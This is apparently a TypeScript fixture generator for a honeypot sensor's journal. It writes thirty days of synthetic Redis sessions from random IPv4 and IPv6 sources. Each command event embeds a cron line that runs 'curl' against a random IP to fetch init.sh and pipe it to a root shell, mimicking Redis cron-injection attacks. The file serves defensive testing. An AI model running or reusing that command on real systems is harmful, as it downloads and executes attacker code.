import { closeSync, mkdirSync, openSync, writeFileSync, writeSync } from 'node:fs';
import { join } from 'node:path';
import { encodeLine } from '../src/journal/line.ts';
import { seededRandom } from '../src/platform/random.ts';

export const JOURNAL_ID = '0a0b0c0d';
const DAYS = 30;
const SEGMENT_BYTES = 64e6;
const SOURCES = 60_000;
const NAMES = [
  'ping',
  'info',
  'info',
  'client|list',
  'set',
  'config|set',
  'get',
  'keys',
  'slaveof',
  'save',
  'eval',
  'scan',
];

/**
 * A journal of so many events of 30 days up to `until`, as a sensor writes them: visits of 3 to 11 events from 60,000 sources,
 * one in twenty of them IPv6. Returns its size in bytes.
 */
export function generateJournal(folder: string, events: number, until: number): number {
  mkdirSync(folder, { recursive: true });
  writeFileSync(join(folder, 'journal.json'), `{"id":"${JOURNAL_ID}","floor":1}\n`);
  const random = seededRandom(5);
  const below = (n: number): number => random.below(n);
  const sources = Array.from({ length: SOURCES }, (_, at) =>
    at % 20 === 0
      ? `2a0${at % 9}:${((at * 7) % 65_536).toString(16)}::${(at % 999).toString(16)}`
      : `${1 + below(223)}.${below(256)}.${below(256)}.${below(256)}`,
  );
  const step = (DAYS * 86_400_000) / events;
  let file: number | undefined;
  let size = 0;
  let total = 0;
  let lines: string[] = [];
  let first = 1;
  const flush = (): void => {
    if (lines.length === 0) return;
    if (file === undefined || size > SEGMENT_BYTES) {
      if (file !== undefined) closeSync(file);
      file = openSync(join(folder, `events-${first.toString(36).padStart(10, '0')}.ndjson`), 'w');
      size = 0;
    }
    const bytes = Buffer.from(lines.join(''), 'latin1');
    writeSync(file, bytes);
    size += bytes.length;
    total += bytes.length;
    first += lines.length;
    lines = [];
  };
  for (let at = 1; at <= events; ) {
    const source = sources[Math.min(below(SOURCES), below(SOURCES))] ?? '';
    const origin = `"vantage":"sensor","sensor":"redis-${below(5)}","session":"${random.hex(8)}","peer":{"address":"${source}","port":${1_024 + below(60_000)}}`;
    const length = 3 + below(9);
    for (let part = 0; part < length && at <= events; part++, at++) {
      const time = Math.round(until - (events - at) * step);
      const id = `${JOURNAL_ID}-${at.toString(36).padStart(10, '0')}`;
      lines.push(encodeLine(`"id":"${id}","time":${time},${origin},"act":${actOf(part, length, below)}}`));
      if (lines.length === 5_000) flush();
    }
  }
  flush();
  if (file !== undefined) closeSync(file);
  return total;
}

function actOf(part: number, length: number, below: (n: number) => number): string {
  if (part === 0) {
    return '{"type":"session.opened","protocol":"redis","local":{"address":"192.0.2.1","port":6379}}';
  }
  if (part === length - 1) {
    return `{"type":"session.closed","reason":"visitor","commands":${length - 2},"bytesIn":${below(900)},"bytesOut":${below(9_000)},"ms":${below(9_000)}}`;
  }
  const line = `\\n\\n*/${1 + below(9)} * * * * root curl -fsSL http://${1 + below(223)}.${below(250)}.4.${below(255)}/init.sh | sh\\n\\n`;
  return `{"type":"redis.command","name":"${NAMES[below(NAMES.length)] ?? ''}","args":["backup${below(4)}","${line}"],"db":0,"reply":"ok"}`;
}
